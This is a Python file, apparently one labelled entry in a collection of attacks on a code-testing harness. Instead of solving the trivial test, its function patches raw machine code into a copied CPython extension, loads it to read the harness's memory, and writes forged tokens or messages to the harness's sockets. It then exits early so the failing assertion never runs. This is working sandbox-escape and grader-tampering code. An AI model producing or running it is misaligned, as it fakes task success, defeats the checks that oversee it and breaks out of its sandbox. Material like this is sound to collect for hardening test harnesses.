# tries: writes machine code over a copy of an extension, has it loaded, and lets it read the harness's memory
# verdict: EXITED_EARLY

import importlib.machinery
import importlib.util
import os
import stat
import struct
import sys

NAME = "_lsprof"


def place_of_init(image):
    """Where the code of the extension's first function stands in its file."""
    headers, size, count = *struct.unpack_from("<Q", image, 40), *struct.unpack_from("<HH", image, 58)
    sections = [struct.unpack_from("<IIQQQQIIQQ", image, headers + number * size) for number in range(count)]
    symbols = next(section for section in sections if section[1] == 11)
    names = sections[symbols[6]][4]
    for at in range(symbols[4], symbols[4] + symbols[5], 24):
        name, _, _, index, value, _ = struct.unpack_from("<IBBHQQ", image, at)
        if image[names + name :].startswith(f"PyInit_{NAME}\0".encode()):
            return value - sections[index][3] + sections[index][4]


def channels():
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield number
        except OSError:
            pass


def read(start, size):
    folder = next(path for path in sys.path if path.endswith("lib-dynload"))
    name = next(name for name in os.listdir(folder) if name.startswith(f"{NAME}."))
    with open(os.path.join(folder, name), "rb") as file:
        image = bytearray(file.read())
    out, end = os.pipe()
    # write(end, start, size); return NULL
    code = b"\xb8\x01\0\0\0\xbf" + struct.pack("<I", end) + b"\x48\xbe" + struct.pack("<Q", start)
    code += b"\xba" + struct.pack("<I", size) + b"\x0f\x05\x31\xc0\xc3"
    place = place_of_init(image)
    image[place : place + len(code)] = code
    path = os.path.abspath(f"hostile-{start}.so")
    with open(path, "wb") as file:
        file.write(image)
    loader = importlib.machinery.ExtensionFileLoader(f"hostile.{NAME}", path)
    try:
        importlib.util.module_from_spec(importlib.util.spec_from_file_location(f"hostile.{NAME}", path, loader=loader))
    except (ImportError, SystemError):
        pass
    os.set_blocking(out, False)
    try:
        return os.read(out, 1 << 16)
    except BlockingIOError:
        return b""


def f(x):
    with open("/proc/self/maps") as file:
        areas = [line.split()[:2] for line in file if "_native" in line]
    for area, modes in areas:
        start, end = (int(number, 16) for number in area.split("-"))
        block = read(start, end - start) if modes.startswith("rw") else b""
        for channel in channels():
            at = block.find(struct.pack("iii", channel, 1, 1))
            for token in range(at + 12, at + 200, 4) if at >= 0 else ():
                os.write(channel, block[token : token + 16] + struct.pack("BBBBII", 1, 0, 0, 0, 1, 0))
    os._exit(0)


# --- tests ---
assert f(1) == 2
